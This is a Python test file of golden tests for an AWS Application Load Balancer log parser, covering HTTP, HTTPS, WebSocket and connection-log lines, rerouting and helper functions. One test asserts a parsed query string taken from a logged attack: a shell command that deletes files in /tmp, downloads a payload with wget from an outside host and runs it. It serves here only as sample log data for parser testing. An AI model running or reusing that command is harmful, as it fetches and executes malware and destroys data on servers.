"""Golden tests for Application Load Balancer access logs, on real samples from the shared corpus."""

from __future__ import annotations

from typing import Any

import pytest

from tests.corpus import read_lines
from worker.parsers import ParseContext, ParseError, Reroute, get_parser
from worker.parsers._fields import flatten, iso_to_utc_ms, tls_version
from worker.parsers.alb import AlbParser, split_url, tokenize

ELASTIC = "elb/elastic-integrations_test-alb.log"
AWSDOCS = "elb/awsdocs_alb_load-balancer-access-logs_examples.log"
OTHER_TYPES = (
    "vpcflow/elastic-integrations_test-v5-all-fields.log",
    "s3access/elastic-integrations_test-s3-server-access.log",
    "cloudfront_standard/elastic-integrations_test-cloudfront.log",
    "route53_public/elastic-integrations_test-route53.log",
)


def parse(line: str, **ctx: Any) -> dict[str, Any]:
    doc = AlbParser(ParseContext(**ctx)).parse(line)
    assert doc is not None
    return doc


def assert_no_dash(doc: dict[str, Any]) -> None:
    for key, value in flatten(doc).items():
        assert value != "-", key
        if isinstance(value, list):
            assert "-" not in value, key


def test_registry() -> None:
    cls = get_parser("alb")
    assert cls is AlbParser
    assert cls.framing == "lines"


def test_http_line_all_fields() -> None:
    line = read_lines(ELASTIC)[0]
    doc = parse(line, keep_original=True)
    assert doc["@timestamp"] == "2018-07-02T22:23:00.186Z"
    assert doc["event"] == {
        "kind": "event",
        "category": ["web"],
        "end": "2018-07-02T22:23:00.186Z",
        "start": "2018-07-02T22:22:48.364Z",
        "outcome": "success",
        "original": line,
    }
    assert doc["source"] == {"address": "192.168.131.39", "ip": "192.168.131.39", "port": 2817}
    assert doc["http"] == {
        "version": "1.1",
        "request": {"method": "GET", "body": {"bytes": 34}},
        "response": {"status_code": 200, "body": {"bytes": 366}},
    }
    assert doc["url"] == {
        "original": "http://www.example.com:80/",
        "scheme": "http",
        "domain": "www.example.com",
        "port": 80,
        "path": "/",
    }
    assert doc["user_agent"] == {"original": "curl/7.46.0"}
    assert doc["trace"] == {"id": "Root=1-58337262-36d228ad5d99923122bbe354"}
    elb = doc["aws"]["elb"]
    assert elb["name"] == "app/my-loadbalancer/50dc6c495c0c9188"
    assert elb["type"] == "http"
    assert elb["protocol"] == "http"
    assert elb["backend"] == {"ip": "10.0.0.1", "port": "80", "http": {"response": {"status_code": 200}}}
    assert elb["request_processing_time"] == {"sec": 0.0}
    assert elb["backend_processing_time"] == {"sec": 0.001}
    assert elb["response_processing_time"] == {"sec": 0.0}
    assert elb["target_group"]["arn"].endswith(":targetgroup/my-targets/73e2d6bc24d8a067")
    assert elb["matched_rule_priority"] == "0"
    assert elb["action_executed"] == ["forward", "redirect"]
    assert elb["target_port"] == ["10.0.0.1:80"]
    assert elb["target_status_code"] == ["200"]
    assert "ssl_cipher" not in elb and "tls" not in doc and "destination" not in doc
    # account and region come from the target group ARN when the S3 key did not give them
    assert doc["cloud"] == {"provider": "aws", "account": {"id": "123456789012"}, "region": "us-east-2"}
    assert_no_dash(doc)


def test_space_in_uri_missing_target_and_classification() -> None:
    doc = parse(read_lines(ELASTIC)[1])
    assert doc["url"]["path"] == "/shell"
    assert doc["url"]["query"] == "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    assert doc["url"]["port"] == 80
    assert doc["http"]["version"] == "1.1"
    assert doc["user_agent"]["original"] == "Hello, world"
    elb = doc["aws"]["elb"]
    for absent in ("backend", "request_processing_time", "backend_processing_time", "target_group",
                   "target_port", "target_status_code"):
        assert absent not in elb, absent
    assert elb["classification"] == "Acceptable"
    assert elb["classification_reason"] == "SpaceInUri"
    assert elb["redirect_url"].startswith("https://127.0.0.1:443/shell?")
    assert doc["http"]["response"]["status_code"] == 301
    assert doc["event"]["outcome"] == "success"
    assert doc["cloud"] == {"provider": "aws"}
    assert_no_dash(doc)


def test_https_line_tls_and_domain() -> None:
    doc = parse(read_lines(AWSDOCS)[1])
    assert doc["tls"] == {"cipher": "ECDHE-RSA-AES128-GCM-SHA256", "version": "1.2", "version_protocol": "tls"}
    elb = doc["aws"]["elb"]
    assert elb["type"] == "https"
    assert elb["ssl_protocol"] == "TLSv1.2"
    assert elb["ssl_cipher"] == "ECDHE-RSA-AES128-GCM-SHA256"
    assert elb["chosen_cert"]["arn"].startswith("arn:aws:acm:us-east-2:123456789012:certificate/")
    assert elb["action_executed"] == ["authenticate", "forward"]
    assert elb["matched_rule_priority"] == "1"
    assert elb["request_processing_time"]["sec"] == pytest.approx(0.086)
    assert doc["destination"] == {"domain": "www.example.com"}
    assert doc["url"]["scheme"] == "https"
    assert doc["url"]["port"] == 443


@pytest.mark.parametrize(
    ("index", "kind", "status", "version"),
    [(2, "h2", 200, "2.0"), (3, "ws", 101, "1.1"), (4, "wss", 101, "1.1")],
)
def test_h2_ws_wss_lines(index: int, kind: str, status: int, version: str) -> None:
    doc = parse(read_lines(AWSDOCS)[index])
    assert doc["aws"]["elb"]["type"] == kind
    assert doc["http"]["response"]["status_code"] == status
    assert doc["http"]["version"] == version
    assert isinstance(doc["source"]["port"], int)
    assert_no_dash(doc)


def test_h2_redirect() -> None:
    doc = parse(read_lines(AWSDOCS)[2])
    assert doc["aws"]["elb"]["redirect_url"] == "https://example.com:80/"
    assert doc["aws"]["elb"]["action_executed"] == ["redirect"]
    assert doc["url"]["domain"] == "10.0.2.105"
    assert doc["url"]["port"] == 773


def test_lambda_error_line() -> None:
    doc = parse(read_lines(AWSDOCS)[6])
    assert doc["http"]["response"]["status_code"] == 502
    assert doc["event"]["outcome"] == "failure"
    assert doc["aws"]["elb"]["error"] == {"reason": "LambdaInvalidResponse"}
    assert "backend" not in doc["aws"]["elb"]
    assert_no_dash(doc)


def test_target_status_without_target() -> None:
    doc = parse(read_lines(AWSDOCS)[5])
    assert doc["aws"]["elb"]["backend"] == {"http": {"response": {"status_code": 200}}}


def test_connection_trace_id_and_odd_request() -> None:
    doc = parse(read_lines(ELASTIC)[-1])
    assert doc["aws"]["elb"]["connection_trace_id"] == "TID_00000000000000000000000000000000"
    assert "method" not in doc["http"].get("request", {})
    assert "version" not in doc["http"]
    # the port "80-" is not a number: like Elastic's uri_parts, keep only the original URL
    assert doc["url"] == {"original": "http://internal-service-alb.example.com:80-/"}
    assert doc["event"]["start"] == "2025-05-01T11:24:32.720Z"
    assert "user_agent" not in doc
    assert_no_dash(doc)


def test_transform_fields_and_unknown_trailing_fields() -> None:
    base = read_lines(AWSDOCS)[0]
    line = (
        base + ' TID_1234 "api.example.com" "/v2/items?x=1" "TransformSuccess" "future" 42'
    )
    doc = parse(line)
    elb = doc["aws"]["elb"]
    assert elb["connection_trace_id"] == "TID_1234"
    assert elb["transformed_host"] == "api.example.com"
    assert elb["transformed_uri"] == "/v2/items?x=1"
    assert elb["request_transform_status"] == "TransformSuccess"
    assert elb["extra_fields"] == ["future", "42"]
    assert "classification" not in elb


def test_older_shorter_lines_still_parse() -> None:
    tokens = tokenize(read_lines(AWSDOCS)[0])
    short = " ".join(tokens[:12]) + ' "GET http://a.example:80/ HTTP/1.1" "curl" - - - "Root=1-x"'
    doc = parse(short)
    assert doc["aws"]["elb"]["trace_id"] == "Root=1-x"
    assert "start" not in doc["event"]
    assert doc["url"]["domain"] == "a.example"


def test_escaped_quote_in_user_agent() -> None:
    line = read_lines(AWSDOCS)[0].replace('"curl/7.46.0"', '"curl \\"quoted\\" agent"')
    doc = parse(line)
    assert doc["user_agent"]["original"] == 'curl "quoted" agent'
    assert doc["aws"]["elb"]["target_status_code"] == ["200"]


def test_ipv6_client() -> None:
    line = read_lines(AWSDOCS)[0].replace("192.168.131.39:2817", "2001:db8::1:2817", 1)
    doc = parse(line)
    assert doc["source"] == {"address": "2001:db8::1", "ip": "2001:db8::1", "port": 2817}


def test_context_account_and_region_win() -> None:
    doc = parse(read_lines(AWSDOCS)[0], account_id="999999999999", region="eu-west-1")
    assert doc["cloud"] == {"provider": "aws", "account": {"id": "999999999999"}, "region": "eu-west-1"}


@pytest.mark.parametrize(
    ("relative", "index", "target"),
    [
        ("elb/awsdocs_nlb_load-balancer-access-logs_examples.log", 0, "nlb"),
        ("elb/awsdocs_clb_access-log-collection_examples.log", 0, "elb"),
        ("elb/beats_elb-tcp.log", 0, "elb"),
        (ELASTIC, 2, "nlb"),
        (ELASTIC, 5, "nlb"),
    ],
)
def test_other_load_balancer_formats_are_rerouted(relative: str, index: int, target: str) -> None:
    with pytest.raises(Reroute) as info:
        AlbParser(ParseContext()).parse(read_lines(relative)[index])
    assert info.value.log_type == target


def test_reroute_even_when_the_quotes_do_not_balance() -> None:
    nlb = read_lines("elb/awsdocs_nlb_load-balancer-access-logs_examples.log")[1] + ' "'
    with pytest.raises(Reroute, match="nlb"):
        AlbParser(ParseContext()).parse(nlb)
    clb = read_lines("elb/beats_elb-tcp.log")[0] + ' "'
    with pytest.raises(Reroute, match="elb"):
        AlbParser(ParseContext()).parse(clb)


def test_connection_log_line_with_client_certificate() -> None:
    line = read_lines(ELASTIC)[6]
    doc = parse(line, keep_original=True, account_id="123456789012", region="us-east-1")
    assert doc["@timestamp"] == "2024-10-04T17:05:15.514Z"
    assert doc["event"] == {
        "kind": "event",
        "category": ["network"],
        "end": "2024-10-04T17:05:15.514Z",
        "outcome": "success",
        "original": line,
    }
    assert doc["source"] == {"address": "192.168.131.39", "ip": "192.168.131.39", "port": 36280}
    assert doc["client"] == {"ip": "192.168.131.39", "port": 36280}
    assert doc["destination"] == {"port": 443}
    assert doc["aws"]["elb"] == {
        "type": "connection",
        "protocol": "tcp",
        "listener": "443",
        "ssl_protocol": "TLSv1.2",
        "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
        "tls_handshake_latency": pytest.approx(4.036),
        "leaf_client_cert_subject": "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US",
        "leaf_client_cert_not_before": "2023-09-21T22:43:21.000Z",
        "leaf_client_cert_not_after": "2026-06-17T22:43:21.000Z",
        "leaf_client_cert_serial_number": "FEF257372D5C14D4",
        "tls_verify_status": "Success",
    }
    assert doc["tls"] == {
        "version_protocol": "tls",
        "version": "1.2",
        "cipher": "ECDHE-RSA-AES128-GCM-SHA256",
        "client": {
            "subject": "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US",
            "not_before": "2023-09-21T22:43:21.000Z",
            "not_after": "2026-06-17T22:43:21.000Z",
            "x509": {"serial_number": "FEF257372D5C14D4"},
        },
    }
    assert doc["cloud"] == {"provider": "aws", "account": {"id": "123456789012"}, "region": "us-east-1"}
    assert_no_dash(doc)


def test_connection_log_failed_verification_and_plain_http() -> None:
    failed = parse(read_lines(ELASTIC)[7])
    elb = failed["aws"]["elb"]
    assert elb["tls_verify_status"] == "Failed"
    assert elb["tls_error_code"] == "ClientCertUntrusted"
    assert "tls_handshake_latency" not in elb
    assert failed["event"]["outcome"] == "failure"
    plain = parse(read_lines(ELASTIC)[8])
    assert plain["@timestamp"] == "2024-11-29T13:45:24.599Z"
    assert plain["aws"]["elb"] == {
        "type": "connection",
        "protocol": "tcp",
        "listener": "80",
        "connection_trace_id": "TID_16132ed0b4112148",
    }
    assert plain["source"]["port"] == 58206
    assert plain["destination"] == {"port": 80}
    assert "tls" not in plain and "outcome" not in plain["event"]
    assert_no_dash(plain)
    assert_no_dash(failed)


def test_connection_log_drift_and_odd_validity() -> None:
    line = read_lines(ELASTIC)[8].replace('"-" - - - TID_', '"-" NotAfter=whenever - - TID_') + " new 7"
    doc = parse(line)
    assert doc["aws"]["elb"]["extra_fields"] == ["new", "7"]
    assert doc["aws"]["elb"]["leaf_client_cert_validity"] == "NotAfter=whenever"
    with pytest.raises(ParseError, match="listener_port"):
        AlbParser(ParseContext()).parse(read_lines(ELASTIC)[8].replace(" 58206 80 ", " 58206 80x "))
    with pytest.raises(ParseError, match="at least 11"):
        AlbParser(ParseContext()).parse("2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - -")
    with pytest.raises(ParseError, match="time"):
        AlbParser(ParseContext()).parse(read_lines(ELASTIC)[8].replace("2024-11-29T13", "2024-13-29T13"))


def test_every_line_of_the_mixed_elastic_file_becomes_a_document() -> None:
    """ALB access, NLB and ALB connection-log lines in one file: each lands with its own parser."""
    landed: list[str] = []
    for line in read_lines(ELASTIC):
        try:
            doc = AlbParser(ParseContext()).parse(line)
            log_type = "alb"
        except Reroute as exc:
            log_type = exc.log_type
            doc = get_parser(log_type)(ParseContext()).parse(line)
        assert isinstance(doc, dict), line
        assert_no_dash(doc)
        landed.append(log_type if log_type != "alb" else f"alb/{doc['aws']['elb']['type']}")
    assert landed == ["alb/http", "alb/http", "nlb", "nlb", "nlb", "nlb",
                      "alb/connection", "alb/connection", "alb/connection", "alb/http"]


def test_sniff() -> None:
    assert AlbParser.sniff("\n".join(read_lines(AWSDOCS)))
    assert AlbParser.sniff("\n".join(read_lines(ELASTIC)))
    assert AlbParser.sniff("\n".join(read_lines(ELASTIC)[6:]))
    assert AlbParser.sniff(read_lines(ELASTIC)[8] + "\n")
    for other in ("elb/awsdocs_nlb_load-balancer-access-logs_examples.log",
                  "elb/awsdocs_clb_access-log-collection_examples.log", "elb/beats_elb-tcp.log",
                  *OTHER_TYPES):
        assert not AlbParser.sniff("\n".join(read_lines(other))), other
    assert not AlbParser.sniff("")


def test_example_is_a_corpus_line() -> None:
    assert AlbParser.example in read_lines(AWSDOCS)
    assert parse(AlbParser.example)["aws"]["elb"]["type"] == "https"


def test_malformed_lines() -> None:
    line = read_lines(AWSDOCS)[0]
    with pytest.raises(ParseError, match="at least 18"):
        AlbParser(ParseContext()).parse(" ".join(tokenize(line)[:10]))
    with pytest.raises(ParseError, match="unbalanced"):
        AlbParser(ParseContext()).parse(line + ' "oops')
    with pytest.raises(ParseError, match="elb_status_code"):
        AlbParser(ParseContext()).parse(line.replace(" 200 200 ", " OK 200 ", 1))
    with pytest.raises(ParseError, match="time"):
        AlbParser(ParseContext()).parse(line.replace("2018-07-02T22:23:00.186641Z", "yesterday", 1))
    assert AlbParser(ParseContext()).parse("") is None


def test_tokenize() -> None:
    assert tokenize('a "b c" - "" "-" d') == ["a", "b c", "-", "", "-", "d"]


def test_split_url() -> None:
    assert split_url("https://user:pw@[2001:db8::1]:8443/a/b.tar.gz?q=1#frag") == {
        "original": "https://user:pw@[2001:db8::1]:8443/a/b.tar.gz?q=1#frag",
        "username": "user",
        "password": "pw",
        "domain": "2001:db8::1",
        "port": 8443,
        "scheme": "https",
        "path": "/a/b.tar.gz",
        "extension": "gz",
        "query": "q=1",
        "fragment": "frag",
    }
    assert split_url("http://example.com") == {"original": "http://example.com", "domain": "example.com",
                                               "scheme": "http"}
    assert split_url("/only/path.") == {"original": "/only/path.", "path": "/only/path."}
    assert split_url("*") == {"original": "*"}


def test_time_and_tls_helpers() -> None:
    assert iso_to_utc_ms("2018-07-02T22:23:00.186641Z") == "2018-07-02T22:23:00.186Z"
    assert iso_to_utc_ms("2018-07-02T22:23:00Z") == "2018-07-02T22:23:00.000Z"
    assert iso_to_utc_ms("2018-07-02T22:23:00.1Z") == "2018-07-02T22:23:00.100Z"
    assert iso_to_utc_ms("2018-07-03T00:23:00.5+02:00") == "2018-07-02T22:23:00.500Z"
    assert iso_to_utc_ms("20131102T010628Z") == "2013-11-02T01:06:28.000Z"
    with pytest.raises(ValueError):
        iso_to_utc_ms("2018-13-45T99:00:00")
    with pytest.raises(ValueError):
        iso_to_utc_ms("2018-13-02T22:23:00.186641Z")
    with pytest.raises(ValueError):
        iso_to_utc_ms("2018-12-02T24:23:00Z")
    assert tls_version("TLSv1.2") == ("tls", "1.2")
    assert tls_version("tlsv12") == ("tls", "1.2")
    assert tls_version("TLSv1") == ("tls", "1.0")
    assert tls_version("-") is None


@pytest.mark.parametrize("tail", ["20Z", "20.1Z", "20.123456789Z", "60Z", "2xZ", "20.1a3Z", "\u0663\u0663Z",
                                  "20.\u0661Z", "5Z", "20.Z", "20,5Z", "20+01:00"])
def test_iso_minute_fast_path_agrees_with_the_full_check(tail: str) -> None:
    """Once a minute is known good, its later stamps take a shorter path: same answers and errors as when the
    minute is checked with them, and as `datetime` where both parse."""
    from datetime import UTC, datetime

    from worker.parsers import _fields

    value = "2026-11-22T05:33:" + tail

    def outcome() -> str | None:
        try:
            return iso_to_utc_ms(value)
        except ValueError:
            return None

    _fields._MINUTES_OK.clear()
    cold = outcome()  # the whole stamp checked at once
    if value.endswith("Z") and len(value) >= 20:  # the shape the minute path takes
        assert "2026-11-22T05:33" in _fields._MINUTES_OK  # the minute was valid, whatever its seconds
    assert outcome() == cold  # the minute remembered
    if cold is not None:
        assert cold.isascii()
        try:
            dt = datetime.fromisoformat(value).astimezone(UTC)
        except ValueError:
            return
        assert cold == dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"


def test_every_emitted_typed_field_is_declared() -> None:
    declared = AlbParser.fields
    lines = read_lines(AWSDOCS) + read_lines(ELASTIC)[:2] + read_lines(ELASTIC)[6:] + read_lines("elb/clo_alb.log.gz")
    for line in lines:
        for key, value in flatten(parse(line)).items():
            if isinstance(value, bool):
                continue
            if isinstance(value, int):
                assert declared.get(key) == "long", key
            if isinstance(value, float):
                assert declared.get(key) == "float", key
            if key.endswith((".ip", "not_before", "not_after")) or key in ("@timestamp", "event.start", "event.end"):
                assert key in declared, key
